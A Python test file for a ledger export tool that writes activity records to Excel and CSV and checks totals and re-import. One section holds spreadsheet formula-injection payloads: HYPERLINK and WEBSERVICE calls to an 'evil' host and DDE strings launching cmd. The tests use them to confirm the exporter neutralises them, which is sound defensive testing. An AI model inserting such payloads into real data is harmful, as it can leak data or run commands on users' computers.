"""`wenming export`: the ledger as a spreadsheet whose totals are those of api/stats.json, and
which `wenming import` reads back as the same activities."""

from __future__ import annotations

import csv
import datetime as dt
import html
import json
import re
import shutil
import urllib.parse

import pytest
from click.testing import CliRunner
from conftest import REPO, TODAY, UNIT_YML, copy_demo
from openpyxl import load_workbook
from openpyxl.utils import column_index_from_string

from wenmingsite import load
from wenmingsite.commands.cli import main
from wenmingsite.loading.fields import IMPORTED
from wenmingsite.outputs import export, pack


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    out = tmp_path_factory.mktemp("ledger") / "台账.xlsx"
    result = CliRunner().invoke(
        main,
        [
            "export",
            str(out),
            "--root",
            str(REPO),
            "--date",
            TODAY.isoformat(),
            "--site-url",
            "https://wenming.example.cn/",
        ],
        catch_exceptions=False,
    )
    assert result.exit_code == 0, result.output
    return out, result.output


def evaluate(ws, formula: str):
    """The value of the ledger's own formulas (=SUM(I2:I40), =COUNTA(D2:D40)&" 项")."""
    m = re.fullmatch(r'=(SUM|COUNTA)\(([A-Z]+)(\d+):([A-Z]+)(\d+)\)(&" 项")?', formula)
    assert m, formula
    col = column_index_from_string(m.group(2))
    cells = [ws.cell(r, col).value for r in range(int(m.group(3)), int(m.group(5)) + 1)]
    if m.group(1) == "COUNTA":
        n = sum(1 for v in cells if v not in (None, ""))
        return f"{n} 项" if m.group(6) else n
    return sum(v or 0 for v in cells)


def sheet_totals(ws) -> dict[str, object]:
    headers = [c.value for c in ws[1]]
    last = [c.value for c in ws[ws.max_row]]
    assert "合计" in last
    return {
        h: evaluate(ws, v) if isinstance(v, str) and v.startswith("=") else v
        for h, v in zip(headers, last, strict=True)
    }


def test_export_message_and_sheets(exported):
    path, output = exported
    assert output == f"已导出 {path}：主题活动 71 项，例行活动 213 次（逐次）。\n"
    book = load_workbook(path)
    assert book.sheetnames == ["汇总", "2024年", "2025年", "2026年", "例行活动"]
    assert [c.value for c in book["2024年"][1]] == [
        "序号",
        "日期",
        "结束日期",
        "活动名称",
        "类别",
        "测评项目",
        "部门",
        "地点",
        "参与人次",
        "志愿服务时长（小时）",
        "金额（元）",
        "摘要",
        "照片（张）",
        "记录方式",
        "网页地址",
    ]
    header = [c.value for c in book["2024年"][1]]
    first = dict(zip(header, [c.value for c in book["2024年"][2]], strict=True))
    assert [first[h] for h in header[:5]] == [
        1,
        dt.datetime(2024, 1, 9),
        None,
        "召开创建工作领导小组第一次会议",
        "制度建设",
    ]
    assert first["测评项目"] == "创建工作机制" and first["记录方式"] == "活动记录"
    kind, address = header.index("记录方式"), header.index("网页地址")
    pages = [r for r in book["2024年"].iter_rows(min_row=2, values_only=True) if r[kind] == "活动纪实"]
    assert pages[0][address].startswith("https://wenming.example.cn/activities/2024/")


def test_a_column_has_one_name_on_every_sheet(exported):
    book = load_workbook(exported[0])
    headers = {ws.title: [c.value for c in ws[1]] for ws in book.worksheets if ws.title != "汇总"}
    shared = ["类别", "测评项目", "部门", "参与人次", "志愿服务时长（小时）", "金额（元）", "照片（张）"]
    for title, names in headers.items():
        assert [n for n in names if n in shared] == shared, title
        assert "日期" in names and "序号" in names
    assert headers["例行活动"] == [
        "序号",
        "日期",
        "例行活动",
        "安排",
        "类别",
        "测评项目",
        "部门",
        "地点",
        "参与人次",
        "志愿服务时长（小时）",
        "金额（元）",
        "摘要",
        "照片（张）",
    ]
    summary = [row for row in book["汇总"].iter_rows(values_only=True) if row[0] == "按年度"]
    assert list(summary[0][1:7]) == ["主题活动（项）", "例行活动（次）", *shared[3:]]


def test_web_addresses_are_links_and_every_cell_is_in_a_chinese_font(exported):
    """Excel and WPS open the 网页地址 with a click; no cell, header or default style is in
    openpyxl's Calibri, which has no Chinese (Windows would substitute a font per cell)."""
    import zipfile

    book = load_workbook(exported[0])
    year = book["2024年"]
    column = [c.value for c in year[1]].index("网页地址")
    linked = 0
    for row in year.iter_rows(min_row=2, max_row=year.max_row - 1):
        cell = row[column]
        if cell.value:
            assert cell.hyperlink is not None, cell.coordinate
            target = cell.hyperlink.target
            assert target.startswith("https://wenming.example.cn/activities/2024/") and target.isascii()
            assert urllib.parse.unquote(target) == cell.value
            assert cell.font.u == "single"
            linked += 1
    kind = [c.value for c in year[1]].index("记录方式")
    assert linked == sum(1 for r in year.iter_rows(min_row=2, values_only=True) if r[kind] == "活动纪实")
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    assert cell.font.name == "宋体", (ws.title, cell.coordinate, cell.font.name)
    assert book._named_styles["Normal"].font.name == "宋体"
    with zipfile.ZipFile(exported[0]) as z:
        styles = z.read("xl/styles.xml").decode("utf-8")
    assert "Calibri" not in styles and '<name val="宋体"/>' in styles


def test_totals_equal_api_stats(exported, demo_build):
    stats = demo_build.api("stats.json")
    book = load_workbook(exported[0])
    routine = sheet_totals(book["例行活动"])
    assert routine["安排"] == f"{stats['term']['routine_occurrences']} 项"
    themed = {y: sheet_totals(book[f"{y}年"]) for y in (2024, 2025, 2026)}
    for y, t in themed.items():
        year = stats["years"][str(y)]
        assert t["类别"] == f"{year['one_off']} 项"
        header = [c.value for c in book["例行活动"][1]]
        rows = [
            dict(zip(header, r, strict=True))
            for r in book["例行活动"].iter_rows(min_row=2, values_only=True)
            if isinstance(r[1], dt.datetime) and r[1].year == y
        ]
        for column, key in (
            ("参与人次", "participants"),
            ("志愿服务时长（小时）", "volunteer_hours"),
            ("金额（元）", "amount"),
            ("照片（张）", "photos"),
        ):
            assert t[column] + sum(r[column] or 0 for r in rows) == year[key], column
    # The 汇总 sheet: per year, criterion, category and department, as api/stats.json has them.
    summary = list(book["汇总"].iter_rows(values_only=True))
    tables, current = {}, None
    for row in summary:
        if row[0] in ("按年度", "按测评项目", "按类别", "按部门"):
            current = tables.setdefault(row[0], {})
        elif current is not None and row[0]:
            current[row[0]] = list(row[1:7])

    def expect(t):
        return [
            t["one_off"],
            t["routine_occurrences"],
            t["participants"],
            t["volunteer_hours"],
            t["amount"],
            t["photos"],
        ]

    assert tables["按年度"]["合计（本届）"] == expect(stats["term"])
    for y in (2024, 2025, 2026):
        assert tables["按年度"][f"{y}年"] == expect(stats["years"][str(y)])
    for name, t in stats["categories"].items():
        assert tables["按类别"][name] == expect(t)
    for name, t in stats["departments"].items():
        assert tables["按部门"][name] == expect(t)
    content, _ = load(REPO, today=TODAY)
    names = {c.id: c.name for c in content.criteria}
    assert [k for k in tables["按测评项目"] if not k.startswith("本届")] == [names[k] for k in stats["criteria"]]
    for cid, t in stats["criteria"].items():
        assert tables["按测评项目"][names[cid]] == expect(t)


def test_routines_by_month_and_csv(tmp_path):
    out = tmp_path / "台账.csv"
    result = CliRunner().invoke(
        main,
        ["export", str(out), "--root", str(REPO), "--date", TODAY.isoformat(), "--routines", "按月"],
        catch_exceptions=False,
    )
    assert result.exit_code == 0, result.output
    assert (
        result.stdout == f"已导出 {out}、{tmp_path / '台账-例行活动.csv'}：主题活动 71 项，例行活动 213 次（按月）。\n"
    )
    # The demo's site_url is the preview's address unless SITE_URL says otherwise: the links
    # in 网页地址 would open on this computer only (pack and deploy say so too).
    assert result.stderr == (
        "提示：网站地址是本机地址 http://127.0.0.1:8000/，台账“网页地址”一栏的链接只能在这台电脑上打开。"
        "交给检查组之前，请用 --site-url 或环境变量 SITE_URL 写上网站的正式地址后重新导出\n"
    )
    themed = list(csv.reader(out.open(encoding="utf-8-sig")))
    assert len(themed) == 72 and themed[1][1] == "2024-01-09"
    monthly = list(csv.reader((tmp_path / "台账-例行活动.csv").open(encoding="utf-8-sig")))
    assert monthly[0][:6] == ["序号", "月份", "例行活动", "安排", "次数", "日期"]
    assert sum(int(r[4]) for r in monthly[1:]) == 213
    flag = next(r for r in monthly[1:] if r[2] == "升国旗仪式")
    # 2024-01-01, the first Monday, is New Year's Day: the first raising is in February.
    assert flag[1] == "2024年2月" and flag[3] == "每月第1个周一" and flag[4] == "1" and flag[5] == "5日"


def test_refuses_other_file_types(tmp_path):
    result = CliRunner().invoke(main, ["export", str(tmp_path / "台账.pdf"), "--root", str(REPO)])
    assert result.exit_code == 1
    assert result.output == "错误：“台账.pdf”不是 .xlsx 或 .csv 文件名。请写成例如 wenming export 台账.xlsx\n"


# Every field with a ledger column (wenmingsite.loading.fields), sign-off included.
FIELDS = IMPORTED


def test_exported_ledger_imports_back_as_the_same_activities(exported, tmp_path):
    """Into the same unit with its activities taken out (routines kept): the import gives
    back every 主题活动 with every field the importer knows, and nothing else."""
    root = copy_demo(tmp_path)
    original, _ = load(REPO, today=TODAY)
    shutil.rmtree(root / "docs" / "activities")
    unit = root / "data" / "unit.yml"  # its banner is one of the activity photos just removed
    unit.write_text(re.sub(r"(?m)^banner:.*\n", "", unit.read_text(encoding="utf-8")), encoding="utf-8")
    for f in (root / "data" / "activities").glob("*.yml"):
        text = f.read_text(encoding="utf-8")
        start, end = text.index("\nactivities:") + 1, text.index("\nroutines:") + 1
        f.write_text(text[:start] + text[end:], encoding="utf-8")
    emptied, _ = load(root, today=TODAY)
    assert not [a for a in emptied.activities if a.origin != "routine"]
    result = CliRunner().invoke(
        main, ["import", str(exported[0]), "--root", str(root), "--yes"], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    assert "将把 71 项活动追加到" in result.output
    # Sheets and rows the ledger makes itself are passed by, each said so.
    for sheet in ("汇总", "例行活动"):
        assert (
            f"台账.xlsx 工作表“{sheet}”：这是 wenming export 导出的汇总或例行活动明细，不是活动记录，没有导入"
            "（例行活动在 data/activities/*.yml 的 routines 中维护）"
        ) in result.output
    assert result.output.count("这一行是“合计”行，没有导入（网站会自己统计合计数）。不需要处理") == 3
    assert result.output.splitlines()[-1] == "共 74 行：导入 71 行，跳过空行 0 行，合计行 3 行，有问题 0 行"
    back, problems = load(root, today=TODAY)
    assert problems == []

    def key(a):
        return tuple(f.value(a) for f in FIELDS)

    assert sorted(key(a) for a in back.activities if a.origin != "routine") == sorted(
        key(a) for a in original.activities if a.origin != "routine" and not a.draft
    )
    assert [a.date for a in back.activities if a.origin == "routine"] == [
        a.date for a in original.activities if a.origin == "routine"
    ]


# --- formula-like text is written as text ------------------------------------------------

HOSTILE = {
    "title": '=HYPERLINK("http://evil/?"&A1,"点我")',
    "summary": "+cmd|' /C calc'!A0",
    "location": "@SUM(1+1)*cmd|' /C calc'!A0",
    "department": "-2+3+cmd|' /C calc'!A0",
    "category": '＝HYPERLINK("http://evil/")',  # full-width equals sign
    "criterion": "=1+1",
    "routine": '=WEBSERVICE("http://evil/")',
}


def q(text: str) -> str:
    """A YAML double-quoted scalar (JSON's string syntax is one)."""
    return json.dumps(text, ensure_ascii=False)


@pytest.fixture
def hostile_unit(site):
    h = HOSTILE
    return site(
        {
            "data/unit.yml": UNIT_YML.replace(
                "departments: [办公室, 工会]", f"departments:\n  - {q(h['department'])}\n"
            ),
            "data/criteria.yml": f"- id: volunteer-service\n  name: {q(h['criterion'])}\n",
            "data/categories.yml": f"- name: {q(h['category'])}\n  slug: volunteer\n  criteria: [volunteer-service]\n",
            "docs/activities/2024-03-05-plant.md": (
                "---\n"
                f"title: {q(h['title'])}\n"
                "date: 2024-03-05\n"
                "category: volunteer\n"
                f"department: {q(h['department'])}\n"
                f"location: {q(h['location'])}\n"
                f"summary: {q(h['summary'])}\n"
                "participants: 20\n"
                "---\n\n正文。\n"
            ),
            "data/activities/2024.yml": (
                "routines:\n"
                f"  - title: {q(h['routine'])}\n"
                "    repeat: 每月\n"
                "    day: 15\n"
                "    start: 2024-01-01\n"
                "    end: 2024-03-31\n"
                "    category: volunteer\n"
                "    participants: 5\n"
            ),
        }
    )


def export_to(root, target):
    result = CliRunner().invoke(
        main, ["export", str(target), "--root", str(root), "--date", TODAY.isoformat()], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    return result


def test_formula_like_text_is_a_string_cell_in_the_xlsx(hostile_unit, tmp_path):
    """Titles, summaries, places, departments, categories, criteria and routine names that
    start like a formula are string cells (never <f>), marked as text for editing too; the
    ledger's own totals stay formulas."""
    import zipfile

    out = tmp_path / "台账.xlsx"
    export_to(hostile_unit, out)
    book = load_workbook(out)
    seen = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in HOSTILE.values():
                    seen.setdefault(cell.value, []).append(f"{ws.title}!{cell.coordinate}")
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    assert set(seen) == set(HOSTILE.values()), set(HOSTILE.values()) - set(seen)
    # Every value as typed (an import reads the same title back), none as a formula.
    year = book["2024年"]
    assert [c.value for c in year[2]][3:8] == [
        HOSTILE["title"],
        HOSTILE["category"],
        HOSTILE["criterion"],
        HOSTILE["department"],
        HOSTILE["location"],
    ]
    formulas = {
        (ws.title, c.coordinate): c.value
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    }
    # Only the 合计 rows hold formulas: the last row of each table sheet.
    assert formulas and all(book[s].max_row == int(re.sub(r"\D", "", at)) for s, at in formulas)
    assert all(re.fullmatch(r'=(SUM|COUNTA)\([A-Z]+\d+:[A-Z]+\d+\)(&" 项")?', v) for v in formulas.values())
    # The file itself: no <f> element holds any of the typed text.
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")]
    for xml in sheets:
        for f in re.findall(r"<f>(.*?)</f>", xml):
            assert re.fullmatch(r'(SUM|COUNTA)\([A-Z]+\d+:[A-Z]+\d+\)(&" 项")?', html.unescape(f)), f


def test_formula_like_text_gets_an_apostrophe_in_the_csv(hostile_unit, tmp_path):
    out = tmp_path / "台账.csv"
    export_to(hostile_unit, out)
    themed = list(csv.reader(out.open(encoding="utf-8-sig")))
    routines = list(csv.reader((tmp_path / "台账-例行活动.csv").open(encoding="utf-8-sig")))
    row = dict(zip(themed[0], themed[1], strict=True))
    assert row["活动名称"] == "'" + HOSTILE["title"]
    assert row["摘要"] == "'" + HOSTILE["summary"]
    assert row["地点"] == "'" + HOSTILE["location"]
    assert row["部门"] == "'" + HOSTILE["department"]
    assert row["类别"] == "'" + HOSTILE["category"]
    assert row["测评项目"] == "'" + HOSTILE["criterion"]
    assert row["参与人次"] == "20" and row["日期"] == "2024-03-05"
    first = dict(zip(routines[0], routines[1], strict=True))
    assert first["例行活动"] == "'" + HOSTILE["routine"] and first["类别"] == "'" + HOSTILE["category"]
    # As text: no line of either file has a field that starts like a formula.
    for path in (out, tmp_path / "台账-例行活动.csv"):
        for fields in csv.reader(path.open(encoding="utf-8-sig")):
            for field in fields:
                assert not export.formula_like(field) or re.fullmatch(r"-?\d+(\.\d+)?", field), field


def test_numbers_stay_numbers_and_plain_text_stays_as_it_is(tmp_path):
    """A negative figure (content refuses them, but a ledger must not mangle one) is a number
    cell in the .xlsx and a bare number in the .csv; ordinary text gets no mark."""
    site = pack.bind_site(REPO, TODAY)
    records = [dict(r) for r in site.records]
    first = next(r for r in records if r["kind"] != "routine")
    first.update(participants=-3, amount=-12.5, title="-3 号楼")
    ledger = export.Ledger(site.content, records, site.stats)
    export.write_xlsx(tmp_path / "a.xlsx", ledger)
    export.write_csv(tmp_path / "a.csv", ledger)
    ws = load_workbook(tmp_path / "a.xlsx")[f"{first['date'][:4]}年"]
    row = next(r for r in ws.iter_rows(min_row=2) if r[3].value == "-3 号楼")
    assert (row[8].value, row[8].data_type) == (-3, "n")
    assert (row[10].value, row[10].data_type) == (-12.5, "n")
    assert row[3].data_type == "s" and row[3].quotePrefix
    plain = next(r for r in ws.iter_rows(min_row=2) if r[3].value != "-3 号楼")
    assert not plain[3].quotePrefix and plain[3].data_type == "s"
    lines = list(csv.reader((tmp_path / "a.csv").open(encoding="utf-8-sig")))
    row = next(r for r in lines if r[3] == "'-3 号楼")
    assert row[8] == "-3" and row[10] == "-12.5"
    assert not any(field.startswith("'") for r in lines if r[3] != "'-3 号楼" for field in r)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", True),
        ("+1", True),
        ("-1", True),
        ("@SUM(A1)", True),
        ("\t=1", True),
        ("\r=1", True),
        ("＝1+1", True),
        ("＋1", True),
        ("－1", True),
        ("＠A1", True),
        ("﹦1", True),
        (" =1+1", True),
        ("\u3000=1+1", True),
        ("1+1=2", False),
        ("植树节", False),
        ("“=”号", False),
        ("", False),
    ],
)
def test_formula_like(text, expected):
    assert export.formula_like(text) is expected


def test_the_routine_sheet_carries_every_field_a_routine_declares(exported):
    """A routine's 地点 (declared in data/, like its category) is in the 例行活动 sheet, under
    the same header as on the year sheets; before, the sheet had its own fixed columns and
    dropped it."""
    book = load_workbook(exported[0])
    header = [c.value for c in book["例行活动"][1]]
    rows = [dict(zip(header, r, strict=True)) for r in book["例行活动"].iter_rows(min_row=2, values_only=True)]
    flags = [r for r in rows if r["例行活动"] == "升国旗仪式"]
    assert flags and {r["地点"] for r in flags} == {"中心办公楼前广场"}
    assert header.index("地点") == header.index("部门") + 1  # as on the year sheets
    assert [c.value for c in book["2024年"][1]].index("地点") == [c.value for c in book["2024年"][1]].index("部门") + 1
